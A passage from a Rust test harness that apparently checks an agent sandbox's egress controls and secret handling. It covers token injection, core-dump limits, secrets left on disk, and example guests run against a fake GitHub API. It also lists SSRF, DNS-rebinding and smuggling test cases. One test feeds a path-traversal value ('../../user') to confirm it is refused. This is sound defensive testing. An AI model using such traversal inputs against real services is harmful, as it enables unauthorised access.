                    return Err(format!("worker {pid} holds a secret form in {line}"));
                }
            }
        }
        check(scanned > 1 << 20, || {
            format!("only {scanned} bytes of worker {pid} could be read")
        })?;
    }
    drop(pool);
    lab.forbidden_untouched()
}

/// SEC-13: with --secrets the supervisor (and the worker) cannot dump core; killed
/// in the middle of a secret-bearing request, it leaves no secret on disk.
fn sec13_no_core_dumps_and_nothing_on_disk(lab: &Lab) -> Result<(), String> {
    sec_manifest(lab);
    let input = json!({"requests": [{"method": "GET", "url": "https://api.allowed.test/slow", "timeout_ms": 8000}]}).to_string();
    let mut child = lab
        .sb
        .cmd()
        .args([
            "run",
            "agentbox.toml",
            "--input",
            &input,
            "--secrets",
            "secrets.toml",
            "--extra-ca",
            "ca.pem",
            "--audit",
            "a.jsonl",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .map_err(|e| e.to_string())?;
    // Wait until the slow request is in flight (the server has it).
    let t0 = std::time::Instant::now();
    while lab.w.api_tls.hits() == 0 && t0.elapsed() < std::time::Duration::from_secs(10) {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let limits =
        std::fs::read_to_string(format!("/proc/{}/limits", child.id())).unwrap_or_default();
    let _ = child.kill();
    let _ = child.wait();
    check(lab.w.api_tls.text().contains(TOKEN), || {
        "the request did not carry the token".into()
    })?;
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap_or("");
    check(
        core.split_whitespace().nth(4) == Some("0") && core.split_whitespace().nth(5) == Some("0"),
        || format!("supervisor core limit: {core}"),
    )?;
    // Nothing under the run's directory (cache, audit log, report) holds the value.
    let mut stack = vec![lab.sb.dir.path().to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).map_err(|e| e.to_string())?.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if !["token", "second"]
                .iter()
                .any(|f| p.file_name().is_some_and(|n| n == *f))
            {
                let bytes = std::fs::read(&p).unwrap_or_default();
                no_secret(&String::from_utf8_lossy(&bytes), &p.display().to_string())?;
            }
        }
    }
    lab.forbidden_untouched()
}

/// The github-issues example, unchanged, against a fake api.github.com: the token
/// is injected by the host, the tool's output carries the issues and no token.
fn example_github_issues(lab: &Lab) -> Result<(), String> {
    let dir = root().join("examples/github-issues");
    let wasm = dir.join("github-issues.wasm");
    let manifest = std::fs::read_to_string(dir.join("agentbox.toml")).map_err(|e| e.to_string())?;
    lab.sb.write_bytes(
        "github-issues.wasm",
        &std::fs::read(&wasm)
            .map_err(|e| format!("{}: {e} (cargo xtask guests)", wasm.display()))?,
    );
    lab.sb.manifest(&manifest);
    lab.sb.write(
        "gh-secrets.toml",
        "[secrets.GITHUB_TOKEN]\nfile = \"token\"\n",
    );
    let input = json!({"repo": "octo/demo", "limit": 5}).to_string();
    let (out, report) = lab.sb.run_report(&[
        "--input",
        &input,
        "--secrets",
        "gh-secrets.toml",
        "--extra-ca",
        "ca.pem",
    ]);
    check(out.code == 0, || format!("{out:?}"))?;
    let v: Value = serde_json::from_str(&out.stdout).map_err(|e| format!("{e}: {out:?}"))?;
    check(
        v["issues"] == json!([{"number": 7, "title": "authorized", "author": "octo"}]),
        || v.to_string(),
    )?;
    let seen = lab.w.api_tls.text();
    check(
        seen.contains("GET /repos/octo/demo/issues?state=open&per_page=5 HTTP/1.1"),
        || seen.clone(),
    )?;
    check(
        seen.contains(&format!("authorization: Bearer {TOKEN}")),
        || seen.clone(),
    )?;
    check(report["secrets_used"]["GITHUB_TOKEN"] == 1, || {
        report.to_string()
    })?;
    no_secret(&out.stdout, "stdout")?;
    // Anything but the repository endpoints is refused by the example's grant.
    let input = json!({"repo": "../../user", "limit": 1}).to_string();
    let (out, _) = lab.sb.run_report(&[
        "--input",
        &input,
        "--secrets",
        "gh-secrets.toml",
        "--extra-ca",
        "ca.pem",
    ]);
    check(out.code == 1, || format!("{out:?}"))?;
    lab.forbidden_untouched()
}

/// The JavaScript example (componentize-js, the JS guest SDK), unchanged, against
/// the same fake api.github.com: the token is injected by the host (the issue's
/// title says so), the digest counts issues and pull requests apart, no token in
/// the output, and a path outside the grant is refused.
fn example_js_digest(lab: &Lab) -> Result<(), String> {
    let dir = root().join("examples/js-digest");
    let wasm = dir.join("js-digest.wasm");
    let manifest = std::fs::read_to_string(dir.join("agentbox.toml")).map_err(|e| e.to_string())?;
    lab.sb.write_bytes(
        "js-digest.wasm",
        &std::fs::read(&wasm)
            .map_err(|e| format!("{}: {e} (cargo xtask guests js)", wasm.display()))?,
    );
    lab.sb.manifest(&manifest);
    lab.sb.write(
        "gh-secrets.toml",
        "[secrets.GITHUB_TOKEN]\nfile = \"token\"\n",
    );
    let args = |input: &str| {
        lab.sb.run_report(&[
            "--input",
            input,
            "--secrets",
            "gh-secrets.toml",
            "--extra-ca",
            "ca.pem",
        ])
    };
    let (out, report) = args(&json!({"repo": "octo/demo", "limit": 5}).to_string());
    check(out.code == 0, || format!("{out:?}"))?;
    let v: Value = serde_json::from_str(&out.stdout).map_err(|e| format!("{e}: {out:?}"))?;
    check(
        v == json!({
            "repo": "octo/demo",
            "open_issues": 1,
            "open_pull_requests": 1,
            "authors": {"octo": 1, "x": 1},
            "newest_issues": [{"number": 7, "title": "authorized"}],
        }),
        || v.to_string(),
    )?;
    let seen = lab.w.api_tls.text();
    check(
        seen.contains("GET /repos/octo/demo/issues?state=open&per_page=5 HTTP/1.1"),
        || seen.clone(),
    )?;
    check(report["secrets_used"]["GITHUB_TOKEN"] == 1, || {
        report.to_string()
    })?;
    no_secret(&out.stdout, "stdout")?;
    no_secret(&out.stderr, "stderr")?;
    let (out, _) = args(&json!({"repo": "../../user"}).to_string());
    check(
        out.code == 1 && out.stderr.contains("`repo` must be owner/name"),
        || format!("{out:?}"),
    )?;
    lab.forbidden_untouched()
}

fn main() {
    let real_uid = enter();
    let lab = Lab::new();
    assert!(
        reachable(sa(&format!("{ALLOWED}:80"))),
        "the lab's servers are not up"
    );
    let cases: &[(&str, Case)] = &[
        ("allowed_requests_work", allowed_requests_work),
        ("ssrf01_internal_targets", ssrf01_internal_targets),
        ("ssrf02_alternative_spellings", ssrf02_alternative_spellings),
        (
            "ssrf04_names_resolving_inside",
            ssrf04_names_resolving_inside,
        ),
        ("rebinding_flip_flop", rebinding_flip_flop),
        ("ssrf06_authority_confusion", ssrf06_authority_confusion),
        ("ssrf08_redirects", ssrf08_redirects),
        ("ssrf09_schemes_and_ports", ssrf09_schemes_and_ports),
        (
            "ssrf10_13_headers_and_smuggling",
            ssrf10_13_headers_and_smuggling,
        ),
        ("limits_budgets_and_timeouts", limits_budgets_and_timeouts),
        (
            "private_rule_admits_only_its_target",
            private_rule_admits_only_its_target,
        ),
        ("tls_needs_a_trusted_ca", tls_needs_a_trusted_ca),
        (
            "sec05_injection_and_reflection",
            sec05_injection_and_reflection,
        ),
        (
            "sec02_04_12_placeholders_go_nowhere",
            sec02_04_12_placeholders_go_nowhere,
        ),
        (
            "sec06_redirects_do_not_carry_secrets",
            sec06_redirects_do_not_carry_secrets,
        ),
        ("example_github_issues", example_github_issues),
        ("example_js_digest", example_js_digest),
        (
            "wasi_http_is_mediated_identically",
            wasi_http_is_mediated_identically,
        ),
        (
            "cap01_03_sockets_are_not_linked",
            cap01_03_sockets_are_not_linked,
        ),
        (
            "sec01_secret_never_in_worker_memory",
            sec01_secret_never_in_worker_memory,
        ),
        (
            "sec13_no_core_dumps_and_nothing_on_disk",
            sec13_no_core_dumps_and_nothing_on_disk,
        ),
    ];
    let filter: Vec<String> = std::env::args()
        .skip(1)
        .filter(|a| !a.starts_with('-'))
        .collect();
    let (mut passed, mut failed) = (0, 0);
    println!(
        "egress lab (uid {real_uid}, own network namespace): {} cases",
        cases.len()
    );
    for (name, case) in cases {
        if !filter.is_empty() && !filter.iter().any(|f| name.contains(f.as_str())) {
            continue;
        }
        lab.reset();
        match case(&lab) {
            Ok(()) => {
                passed += 1;
                println!("test {name} ... ok");
            }
            Err(e) => {
                failed += 1;
                println!("test {name} ... FAILED\n    {e}");
            }
        }
    }
    println!(
        "\ntest result: {}. {passed} passed; {failed} failed (DNS queries answered: {})",
        if failed == 0 { "ok" } else { "FAILED" },
        lab.w.zone.queries.load(std::sync::atomic::Ordering::SeqCst)
    );
    std::process::exit(i32::from(failed > 0));
}
